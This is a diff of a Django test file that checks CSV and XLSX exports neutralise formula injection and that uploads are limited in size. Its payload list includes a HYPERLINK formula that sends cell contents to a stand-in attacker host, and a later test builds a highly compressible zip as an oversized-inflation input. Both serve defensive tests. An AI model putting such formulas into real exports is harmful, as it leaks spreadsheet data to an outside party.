@@ -1,15 +1,19 @@
 """CSV and XLSX in and out (core.tabular): exports never carry a live formula, uploads are bounded in bytes
 and rows while they are read."""
 
+import csv
 import io
+import zipfile
 from datetime import date
 from decimal import Decimal
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet import _read_only
 
 from core.tabular import TabularError, export_response, neutralise, read_rows
+from tests.recycling_network.factories import make_point
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -31,8 +35,6 @@ def xlsx_sheet(response):
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_csv_cells_that_start_like_a_formula_are_neutralised(payload):
-    import csv
-
     response = export_response([[payload, "plain", 42]], ["name", "other", "n"], filename="x")
     rows = list(csv.reader(io.StringIO(csv_text(response))))
     assert rows[1][0] == "'" + payload
@@ -50,8 +52,6 @@ def test_xlsx_cells_that_start_like_a_formula_are_text_not_formulas(payload):
 
 
 def test_a_header_is_neutralised_too_and_harmless_text_is_left_alone():
-    import csv
-
     response = export_response([["a-b", "x=y", -3, date(2026, 1, 2)]], ["=cmd", "b", "c", "d"], filename="x")
     rows = list(csv.reader(io.StringIO(csv_text(response))))
     assert rows[0][0] == "'=cmd"
@@ -66,8 +66,6 @@ def test_neutralise_only_touches_the_triggers():
 
 
 def test_the_public_xlsx_and_csv_of_service_points_carry_no_formula(client, db):
-    from tests.recycling_network.factories import make_point
-
     make_point(name_zh=PAYLOADS[0], address="@SUM(1)")
     sheet = xlsx_sheet(client.get("/api/v1/public/service-points/?format=xlsx"))
     cells = [c for row in sheet.iter_rows() for c in row]
@@ -100,7 +98,6 @@ def test_rows_within_the_limit_are_read():
 
 def test_reading_stops_at_the_row_limit(monkeypatch):
     """The sheet is streamed: the reader gives up at the first row over the limit instead of loading all."""
-    from openpyxl.worksheet import _read_only
 
     seen = []
     original = _read_only.ReadOnlyWorksheet._cells_by_row
@@ -124,8 +121,6 @@ def test_a_file_over_the_byte_limit_is_refused_before_it_is_parsed(settings):
 
 
 def test_an_xlsx_that_inflates_too_far_is_refused():
-    import zipfile
-
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
         z.writestr("xl/worksheets/sheet1.xml", b"<" * 5_000_000)
